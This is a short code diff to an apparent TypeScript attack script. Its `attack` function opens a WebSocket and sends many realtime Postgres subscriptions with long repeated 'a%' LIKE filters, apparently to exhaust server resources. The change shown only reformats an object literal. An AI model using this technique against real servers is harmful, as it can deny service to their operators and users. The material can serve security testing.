@@ -39,7 +39,10 @@ async function attack(address: string): Promise<WebSocket> {
   const socket = new WebSocket(address);
   const filter = `title=like.${'a%'.repeat(filterLength / 2)}`;
   const changes = Array.from({ length: filters }, () => ({
-    ...{ event: '*', schema: 'public', table: 'notifications', filter },
+    event: '*',
+    schema: 'public',
+    table: 'notifications',
+    filter,
   }));
   const payload = { config: { postgres_changes: changes } };
   await new Promise<void>((resolve) => {
